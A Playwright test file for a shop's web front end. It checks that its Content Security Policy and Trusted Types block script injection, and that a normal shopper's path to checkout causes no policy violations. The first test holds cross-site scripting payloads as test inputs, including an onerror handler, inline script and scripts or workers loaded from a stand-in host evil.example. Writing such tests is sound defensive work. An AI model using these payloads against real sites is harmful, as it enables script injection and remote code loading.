import type { Page } from '@playwright/test'
import { expect, test } from '../support/shop.ts'

test.use({ serviceWorkers: 'allow' })

/** Collects violations of the policy from the first script on. */
async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = JSON.parse(sessionStorage.getItem('violations') ?? '[]')
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample, blockedURI }) => {
      seen.push(`${violatedDirective} ${blockedURI} ${sample}`)
      sessionStorage.setItem('violations', JSON.stringify(seen))
    })
  })
  return () => page.evaluate(() => JSON.parse(sessionStorage.getItem('violations') ?? '[]'))
}

test('a script in the page can insert neither handlers, nor foreign scripts, nor text as code [PROM-14]', async ({
  page,
}) => {
  const violations = await watchViolations(page)
  await page.goto('/')
  const outcomes = await page.evaluate(() => {
    const attacks: Record<string, () => unknown> = {
      handler: () => Object.assign(document.createElement('p'), { innerHTML: '<img src=x onerror=alert(1)>' }),
      script: () => document.body.insertAdjacentHTML('beforeend', '<script>alert(1)</script>'),
      frame: () => Object.assign(document.createElement('p'), { innerHTML: '<iframe srcdoc="<p>x"></iframe>' }),
      foreign: () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
      data: () => Object.assign(document.createElement('script'), { src: 'data:text/javascript,alert(1)' }),
      text: () => Object.assign(document.createElement('script'), { textContent: 'alert(1)' }),
      worker: () => new Worker('https://evil.example/w.js'),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('launch', { createScript: (text: string) => text }),
    }
    return Object.entries(attacks).map(([name, attack]) => {
      try {
        attack()
        return `${name} passed`
      } catch {
        return `${name} refused`
      }
    })
  })
  expect(outcomes.filter((outcome) => outcome.endsWith('passed'))).toEqual([])
  expect((await violations()).length).toBeGreaterThan(0)
})

test('a shopper’s way from home to the checkout violates no policy [PROM-14]', async ({ shopper }) => {
  const { page } = shopper
  const violations = await watchViolations(page)
  await shopper.visit('/')
  await shopper.rejectTracking()
  const menu = page.getByRole('banner').getByRole('link', { name: 'Herren' }).first()
  await menu.click()
  await expect(page.getByRole('main').getByRole('article').first()).toBeVisible()
  await page.getByRole('main').getByRole('article').first().getByRole('link').first().click()
  await expect(page.getByRole('button', { name: shopper.words.addToCart }).first()).toBeVisible()
  for (const path of ['/impressum', '/wishlist', '/my-account', '/resetpassword', '/checkout']) {
    await page.goto(path)
    await expect(page.getByRole('main')).toBeVisible()
  }
  await page.evaluate(async () => void (await navigator.serviceWorker.ready))
  expect(await violations()).toEqual([])
})
